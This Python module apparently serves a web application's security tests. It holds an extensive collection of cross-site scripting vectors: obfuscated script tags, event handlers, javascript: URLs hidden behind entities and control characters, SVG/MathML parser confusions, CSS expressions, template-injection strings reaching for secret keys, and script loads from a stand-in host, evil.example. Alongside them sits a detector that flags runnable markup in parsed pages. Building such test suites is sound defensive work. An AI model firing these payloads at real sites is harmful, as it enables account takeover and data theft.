"""Hostile input, and a parser's eye for markup that would run.

VECTORS are strings an editor (or an attacker with an editor's login) might type into
any field: script tags, event handlers in many spellings, script URLs hidden behind
entities and whitespace, SVG and MathML, breakouts of attributes and of script and
style blocks, CSS expressions, srcdoc, template syntax, control characters and
direction overrides. Each carries its own number ({n}), so a finding names its vector.

`live_markup` reads a page as a browser would (lxml's HTML parser) and lists what would
run or load: scripts other than the page's own, event-handler attributes, script URLs
in the attributes that load or follow them, frames, objects, <base>, refreshes.
"""

import json
import re

import lxml.etree
import lxml.html

VECTOR_TEMPLATES = [
    # Script elements.
    "<script>alert({n})</script>",
    "<SCRIPT>alert({n})</SCRIPT>",
    "<script src=//evil.example/{n}.js></script>",
    "<script/x>alert({n})</script>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<<script>alert({n});//<</script>",
    "<script>alert({n})",
    '<script type="module">alert({n})</script>',
    "<script\n>alert({n})</script\n>",
    "<script>/*</script><script>*/alert({n})</script>",
    "\ufeff<script>alert({n})</script>",
    # Event handlers, in many spellings.
    "<img src=x onerror=alert({n})>",
    '<img src="x" onerror="alert({n})">',
    "<IMG SRC=x OnErRoR=alert({n})>",
    "<img/src=x/onerror=alert({n})>",
    "<img src=x onerror=alert({n})//",
    "<img src=x onerror\t=alert({n})>",
    "<img src=x onerror\n=alert({n})>",
    "<img src=x onerror=&#97;lert({n})>",
    "<img src=x:alert({n}) onerror=eval(src)>",
    "<image src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})>",
    "<body onload=alert({n})>",
    '<div onmouseover="alert({n})">hover</div>',
    "<a onclick=alert({n})>click</a>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<select autofocus onfocus=alert({n})>",
    "<textarea autofocus onfocus=alert({n})>",
    "<p onpointerenter=alert({n})>x</p>",
    "<style onload=alert({n})></style>",
    "<object data=x onerror=alert({n})>",
    # Breaking out of attributes, elements and blocks.
    '"><script>alert({n})</script>',
    "'><script>alert({n})</script>",
    '" onmouseover="alert({n})',
    "' onmouseover='alert({n})",
    '" autofocus onfocus="alert({n})',
    "` onmouseover=alert({n}) x=`",
    '"/><img src=x onerror=alert({n})>',
    "--><script>alert({n})</script>",
    "]]><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "</noscript><script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "</SCRIPT ><script>alert({n})</script>",
    '</script\t><img src=x onerror="alert({n})">',
    "<!--<script>alert({n})</script>-->",
    "<!--<script>alert({n})//",
    '"}]}</script><script>alert({n})</script>',
    '\\"}</script><img src=x onerror=alert({n})>',
    "\u2028\u2029</script><script>alert({n})</script>",
    "</option></select><img src=x onerror=alert({n})>",
    "</a><a href=javascript:alert({n})>x</a>",
    "</figcaption></figure><img src=x onerror=alert({n})>",
    # Script URLs, hidden behind case, entities, whitespace and control characters.
    '<a href="javascript:alert({n})">x</a>',
    '<a href="JaVaScRiPt:alert({n})">x</a>',
    '<a href=" javascript:alert({n})">x</a>',
    '<a href="java\tscript:alert({n})">x</a>',
    '<a href="java&#x09;script:alert({n})">x</a>',
    '<a href="jav&#x0A;ascript:alert({n})">x</a>',
    '<a href="&#106;avascript:alert({n})">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;'
    ':alert({n})">x</a>',
    '<a href="javascript&colon;alert({n})">x</a>',
    '<a href="\x01javascript:alert({n})">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCh7bn0pPC9zY3JpcHQ+#{n}">x</a>',
    '<a href="data:text/html,<script>alert({n})</script>">x</a>',
    '<a href="vbscript:msgbox({n})">x</a>',
    '<a href="VBScript:msgbox({n})">x</a>',
    '<a href="http://example.org/" onclick="alert({n})">x</a>',
    "<a href='https://example.org/' title='\"><script>alert({n})</script>'>x</a>",
    '<img src="jav&#x09;ascript:alert({n})">',
    '<iframe src="javascript:alert({n})"></iframe>',
    '<form action="javascript:alert({n})"><button>go</button></form>',
    '<button formaction="javascript:alert({n})">go</button>',
    '<svg><a xlink:href="javascript:alert({n})"><text y=20>x</text></a></svg>',
    '<math><a xlink:href="javascript:alert({n})">x</a></math>',
    '<embed src="javascript:alert({n})">',
    '<object data="javascript:alert({n})"></object>',
    "<isindex action=javascript:alert({n}) type=image>",
    '<base href="//evil.example/{n}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert({n})">',
    '<link rel=stylesheet href="javascript:alert({n})">',
    "javascript:alert({n})",
    " JavaScript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    # SVG and MathML, and the parser confusions they allow.
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert({n}) />",
    "<svg><foreignObject><img src=x onerror=alert({n})></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "<svg><style><img src=x onerror=alert({n})></style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert({n})>x</maction>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert({n})>",
    # CSS.
    '<div style="width:expression(alert({n}))">x</div>',
    '<div style="background:url(javascript:alert({n}))">x</div>',
    "<style>@import 'javascript:alert({n})';</style>",
    '<style>body{background:url("javascript:alert({n})")}</style>',
    '<p style="x:\\65xpression(alert({n}))">x</p>',
    "<link rel=stylesheet href=data:,*%7bx:expression(alert({n}))%7d>",
    # Frames and embedded documents.
    '<iframe srcdoc="<script>alert({n})</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert({n})&gt;"></iframe>',
    "<iframe src=//evil.example/{n}></iframe>",
    "<frameset onload=alert({n})>",
    "<object type=text/html data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}.swf>",
    "<applet code=x{n}.class></applet>",
    "<portal src=//evil.example/{n}></portal>",
    # Template syntax, which must stay text.
    "{{ settings.SECRET_KEY }} {n}",
    "{% debug %} {n}",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {n}",
    "{% load log %}{% get_admin_log 10 as log %} {n}",
    "{{ request.user.password }}{{ ''.__class__ }} {n}",
    # Escaped already, or encoded: nothing may decode them twice.
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert({n})&amp;gt;",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    # Direction overrides, odd spaces and control characters.
    "\u202ealert({n})\u202c <img src=x onerror=alert({n})\u202e>",
    "\u200b<scr\u200bipt>alert({n})</script>",
    "\x0b\x0c<script>alert({n})</script>\x1b",
    "line\u0085break\u2028<img src=x onerror=alert({n})>",
    # The story body's own elements, abused.
    '<figure data-image-id="1 onload=alert({n})"></figure>',
    '<figure data-image-id="{n}"><script>alert({n})</script></figure>',
    '<aside class="pull-quote" onclick="alert({n})">quote</aside>',
    '<ol start="1 onclick=alert({n})"><li>x</li></ol>',
]

VECTORS = [
    template.replace("{n}", str(n)) for n, template in enumerate(VECTOR_TEMPLATES)
]

# NUL is refused by PostgreSQL in any text, so only the forms' answer to it is tested.
NUL_VECTORS = [
    "<scr\x00ipt>alert(900)</scr\x00ipt>",
    "<img src=x on\x00error=alert(901)>",
    '<a href="java\x00script:alert(902)">x</a>',
]

# Attributes that load or follow a URL, and what they may not hold.
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "{http://www.w3.org/1999/xlink}href",
    "data",
    "poster",
    "background",
    "lowsrc",
    "dynsrc",
    "code",
    "codebase",
    "to",
    "values",
}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "livescript:")
# Elements that run, frame, restyle or redirect, and that no page of ours puts in its
# markup. (<svg> and <math> themselves run nothing: the admin draws its icons with
# them. What could run inside them is caught by the checks on every element.)
FORBIDDEN_ELEMENTS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "isindex",
    "portal",
    "style",
}
# Browsers ignore these inside a URL's scheme ("java\tscript:" runs).
URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b\ufeff]")


def is_script_url(value):
    return URL_NOISE.sub("", value).lower().startswith(SCRIPT_SCHEMES)


def own_script(element):
    """The page's own scripts: files from our static folder or the admin, and JSON
    blocks (structured data, json_script, the editor's import map) that parse."""
    source = element.get("src")
    if source is not None:
        return source.startswith(("/static/", "/admin/"))
    if (element.get("type") or "").lower() in {
        "application/ld+json",
        "application/json",
        "importmap",
    }:
        try:
            json.loads(element.text or "")
        except ValueError:
            return False
        return True
    return False


def local_name(name):
    return str(name).rsplit("}", 1)[-1].lower()


def live_markup(root):
    """Descriptions of everything in `root` (an lxml tree) that would run or load,
    each starting with the line of the source it was found on."""
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments and processing instructions run nothing
        tag = local_name(element.tag)
        markup = lxml.etree.tostring(element, encoding="unicode", with_tail=False)
        problems = []
        if tag == "script" and not own_script(element):
            problems.append(f"<script> {markup[:200]}")
        elif tag in FORBIDDEN_ELEMENTS:
            problems.append(f"<{tag}> {markup[:200]}")
        elif tag == "meta" and element.get("http-equiv"):
            problems.append(f"<meta http-equiv> {markup[:200]}")
        for name, value in element.attrib.items():
            attribute = local_name(name)
            if attribute.startswith("on"):
                problems.append(f"{attribute}= on <{tag}>: {value[:200]}")
            elif attribute == "srcdoc":
                problems.append(f"srcdoc= on <{tag}>: {value[:200]}")
            elif (attribute in URL_ATTRIBUTES or name in URL_ATTRIBUTES) and (
                is_script_url(value)
            ):
                problems.append(f"{attribute}={value[:200]!r} on <{tag}>")
            elif attribute == "style" and re.search(
                r"expression|javascript:|url\s*\(|\\", value, re.IGNORECASE
            ):
                problems.append(f"style={value[:200]!r} on <{tag}>")
        found += [f"line {element.sourceline}: {problem}" for problem in problems]
    return found


def live_in_page(html):
    """What would run in `html`, a whole page."""
    return live_markup(lxml.html.document_fromstring(html))


def live_in_fragment(html):
    """What would run in `html`, a fragment (a feed's HTML field)."""
    if not html.strip():
        return []
    # As the body of a page: lxml's fragment parser refuses text with control
    # characters, which a browser reads like any other.
    return live_markup(lxml.html.document_fromstring(f"<body>{html}</body>"))


NUMBER = re.compile(r"(?:alert|msgbox)\((\d+)\)|evil\.example/(\d+)|x(\d+)\.class")


def vectors_in(text):
    """The numbers of the vectors whose payload shows in `text`."""
    return sorted({int(next(filter(None, m.groups()))) for m in NUMBER.finditer(text)})
